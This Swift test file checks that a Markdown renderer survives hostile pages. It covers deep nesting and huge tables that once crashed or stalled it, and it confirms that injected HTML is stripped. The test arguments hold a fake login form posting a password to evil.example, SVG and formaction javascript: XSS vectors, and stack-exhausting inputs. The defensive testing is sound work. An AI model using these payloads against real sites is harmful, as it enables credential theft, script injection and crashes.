import Dispatch
import Testing
@testable import QuireMarkdown

/// Pages built to crash or subvert the renderer. Deep nesting used to overflow the worker
/// thread's stack (exit 139); now it is an error naming the line. Each input is rendered on
/// Dispatch worker threads, as the site build does.
@Suite struct HostileMarkdownTests {
    /// Renders on a `concurrentPerform` worker (a small stack), like `SiteBuilder`.
    static func renderOnWorker(_ md: String, lineOffset: Int = 0) -> MarkdownDocument {
        let box = ConcurrentBox()
        DispatchQueue.concurrentPerform(iterations: 2) { i in
            if i == 0 { box.set(MarkdownRenderer().render(md, lineOffset: lineOffset)) }
        }
        return box.get()
    }

    /// Deep inputs by name (the inputs themselves are too long to print as test arguments),
    /// with the line the error must name.
    static let deep: [String: (String, Int)] = [
        "list ×7,000": ("intro\n\n" + String(repeating: "- ", count: 7_000) + "x\n", 3),
        "ordered ×10,000": (String(repeating: "1. ", count: 10_000) + "x\n", 1),
        "quote-list ×10,000": (String(repeating: "> - ", count: 10_000) + "x\n", 1),
        "quote ×100,000": (String(repeating: ">", count: 100_000) + " x\n", 1),
        "emphasis * ×100,000": ("a\n\nb\n\n" + String(repeating: "*", count: 100_000) + "x" + String(repeating: "*", count: 100_000) + "\n", 5),
        "emphasis _ ×50,000": (String(repeating: "_", count: 50_000) + "x" + String(repeating: "_", count: 50_000) + "\n", 1),
        "strong ×20,000": (String(repeating: "**a ", count: 20_000) + "x" + String(repeating: "**", count: 20_000) + "\n", 1),
        "links in emphasis ×20,000": (String(repeating: "*[a ", count: 20_000) + "x" + String(repeating: "](/y)*", count: 20_000) + "\n", 1),
        "admonition title": ("para\n\n:::note " + String(repeating: "*", count: 20_000) + "t" + String(repeating: "*", count: 20_000) + "\nbody\n:::\n", 3),
    ]

    @Test(arguments: deep.keys.sorted())
    func deepNestingIsAnErrorNotACrash(_ name: String) throws {
        let (md, line) = try #require(Self.deep[name])
        let doc = Self.renderOnWorker(md, lineOffset: 10)
        #expect(doc.errors.map(\.line) == [line + 10])
        #expect(doc.errors.first?.message.contains("nested more than \(MarkdownRenderer.maxNesting) levels deep") == true)
    }

    /// Links cannot nest in CommonMark: `[` ×100,000 stays flat text, rendered (no error).
    @Test func manyOpenBracketsAreText() {
        let doc = Self.renderOnWorker(String(repeating: "[", count: 100_000) + "x" + String(repeating: "](/y)", count: 100_000) + "\n")
        #expect(doc.errors.isEmpty)
        #expect(doc.html.hasPrefix("<p>[[[["))
    }

    @Test func nestingWithinTheLimitRendersOnAWorkerThread() {
        // Document, 48 list/item pairs, a paragraph, emphasis: 99 levels, the text the 100th.
        let md = String(repeating: "- ", count: 48) + "*x*\n"
        let doc = Self.renderOnWorker(md)
        #expect(doc.errors.isEmpty)
        #expect(doc.html.components(separatedBy: "<ul>").count == 49)
        #expect(doc.html.contains("<em>x</em>"))
        let quotes = Self.renderOnWorker(String(repeating: ">", count: 97) + " x\n")
        #expect(quotes.errors.isEmpty)
        #expect(quotes.html.components(separatedBy: "<blockquote>").count == 98)
        let tooDeep = Self.renderOnWorker(String(repeating: ">", count: 98) + " x\n")
        #expect(tooDeep.errors.count == 1)
        #expect(tooDeep.html.isEmpty)
    }

    /// Docusaurus containers nest through the preprocessor's markers, not cmark's tree: deep
    /// ones must neither crash nor take long.
    static let deepContainers: [String: String] = [
        "admonitions ×5,000": String(repeating: ":::note\n", count: 5_000) + "x\n" + String(repeating: ":::\n", count: 5_000),
        "tabs ×3,000": String(repeating: "<Tabs>\n<TabItem value=\"a\" label=\"A\">\n\n", count: 3_000) + "x\n" + String(repeating: "</TabItem>\n</Tabs>\n", count: 3_000),
        "details ×10,000": String(repeating: "<details>\n<summary>s</summary>\n\n", count: 10_000) + "x\n" + String(repeating: "</details>\n", count: 10_000),
        "JSX braces ×100,000": "a {" + String(repeating: "{", count: 100_000) + "x" + String(repeating: "}", count: 100_001) + " b\n",
        "unclosed components ×20,000": String(repeating: "<Box>\n", count: 20_000) + "x\n",
        "math ×50,000": String(repeating: "$a$ ", count: 50_000) + "\n",
        "table columns ×5,000": String(repeating: "|a", count: 5_000) + "|\n" + String(repeating: "|-", count: 5_000) + "|\n" + String(repeating: "|b", count: 5_000) + "|\n",
        "code fence ×20,000": String(repeating: "```\n", count: 20_000),
    ]

    @Test(arguments: deepContainers.keys.sorted())
    func deepContainersDoNotCrash(_ name: String) throws {
        let md = try #require(Self.deepContainers[name])
        let start = ContinuousClock.now
        let doc = Self.renderOnWorker(md)
        #expect(ContinuousClock.now - start < .seconds(10))
        #expect(doc.errors.isEmpty || doc.html.isEmpty)
    }

    /// cmark-gfm's table parsing is quadratic in the columns and pads short rows.
    static let bigTables: [String: (String, Int, String)] = [
        "20,000 columns": ("intro\n\n" + String(repeating: "|a", count: 20_000) + "|\n" + String(repeating: "|-", count: 20_000) + "|\n", 4,
                           "table delimiter row has 20001 '|' separators; the limit is 500 columns: split the table"),
        "1,000 columns in a quote": ("> " + String(repeating: "|a", count: 1_000) + "|\n> " + String(repeating: "| --- ", count: 1_000) + "|\n", 2,
                                     "table delimiter row has 1001 '|' separators; the limit is 500 columns: split the table"),
        "400 columns × 2,000 padded rows": (String(repeating: "|a", count: 400) + "|\n" + String(repeating: "|-", count: 400) + "|\n" + String(repeating: "x\n", count: 2_000), 2,
                                            "table has 402 columns and at least 498 rows (200,196 cells); the limit is 200,000 cells: split it"),
    ]

    @Test(arguments: bigTables.keys.sorted())
    func tablesOverTheLimitsAreErrors(_ name: String) throws {
        let (md, line, message) = try #require(Self.bigTables[name])
        let start = ContinuousClock.now
        let doc = Self.renderOnWorker(md, lineOffset: 2)
        #expect(ContinuousClock.now - start < .seconds(2))
        #expect(doc.errors == [MarkdownWarning(line: line + 2, message: message)])
        #expect(doc.html.isEmpty)
    }

    @Test func ordinaryTablesAndTableLikeCodeAreFine() {
        let wide = String(repeating: "|a", count: 100) + "|\n" + String(repeating: "|-", count: 100) + "|\n" + String(repeating: "|b", count: 100) + "|\n"
        let code = "```\n" + String(repeating: "|-", count: 2_000) + "|\n```\n"
        let doc = Self.renderOnWorker(wide + "\n" + code + "\n| a | b |\n|---|:-:|\n| 1 | 2 |\n")
        #expect(doc.errors.isEmpty)
        #expect(doc.html.components(separatedBy: "<table>").count == 3)
    }

    @Test func deepRawHTMLAndLongLinesAreFine() {
        let html = String(repeating: "<div>", count: 50_000) + "x" + String(repeating: "</div>", count: 50_000)
        let doc = Self.renderOnWorker(html + "\n\n" + String(repeating: "word ", count: 200_000) + "\n")
        #expect(doc.errors.isEmpty)
        #expect(doc.html.contains("<div><div>"))
    }

    @Test(arguments: [
        "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"><button>Log in</button></form>",
        "<FORM ACTION=\"https://evil.example/\">\n\nText\n\n</FORM>",
        "text <form action=https://evil.example/>inline</form> more",
        "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a></svg>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        "<button formaction=\"https://evil.example/\">x</button>",
        "<input type=\"submit\" formaction=\"javascript:alert(1)\">",
    ])
    func formsAndSVGAnimationAreDropped(_ md: String) {
        let html = render(md).html.lowercased()
        #expect(!html.contains("<form"))
        #expect(!html.contains("action="))
        #expect(!html.contains("evil.example"))
        #expect(!html.contains("javascript"))
        #expect(!html.contains("<animate"))
        #expect(!html.contains("<set"))
    }

    @Test func formContentStays() {
        let doc = render("<form action=\"https://x.example/\">\n\nSome **text**\n\n</form>")
        #expect(doc.html.contains("<p>Some <strong>text</strong></p>"))
    }
}

/// One value handed from a worker thread back to the test.
final class ConcurrentBox: @unchecked Sendable {
    private var value: MarkdownDocument?
    private let lock = NSLock()
    func set(_ v: MarkdownDocument) { lock.lock(); value = v; lock.unlock() }
    func get() -> MarkdownDocument { lock.lock(); defer { lock.unlock() }; return value! }
}

import Foundation
